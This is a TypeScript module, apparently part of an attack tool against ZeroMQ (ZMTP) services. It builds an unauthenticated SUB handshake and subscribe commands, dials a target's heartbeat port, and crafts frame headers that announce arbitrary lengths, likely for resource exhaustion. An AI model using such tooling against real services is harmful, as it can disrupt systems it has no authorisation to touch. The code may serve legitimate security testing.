import type { Socket } from 'node:net';
import { formatCommand } from '../../protocol/zmtp/command.ts';
import { formatGreetingEnd, GREETING_START } from '../../protocol/zmtp/greeting.ts';
import { formatMetadata } from '../../protocol/zmtp/metadata.ts';
import type { AttackTarget } from '../attack.ts';
import { dial } from './connection.ts';

/** What a SUB without security says of itself. Source: RFC 37. */
export const GREETING = Buffer.concat([GREETING_START, formatGreetingEnd('NULL', false)]);
export const HANDSHAKE = Buffer.concat([
  GREETING,
  formatCommand('READY', formatMetadata({ 'Socket-Type': 'SUB' })),
]);

export function formatSubscribe(topic: string): Buffer {
  return formatCommand('SUBSCRIBE', Buffer.from(topic));
}

/** The first bytes of a frame that announces so many. Source: RFC 37, "Framing". */
export function announceFrame(bytes: bigint): Buffer {
  const head = Buffer.alloc(9);
  head[0] = 2;
  head.writeBigUInt64BE(bytes, 1);
  return head;
}

/** A connection to the heartbeats that has said who it is. */
export function dialSubscriber(target: AttackTarget): Socket {
  const socket = dial(target.heartbeat);
  socket.write(HANDSHAKE);
  return socket;
}
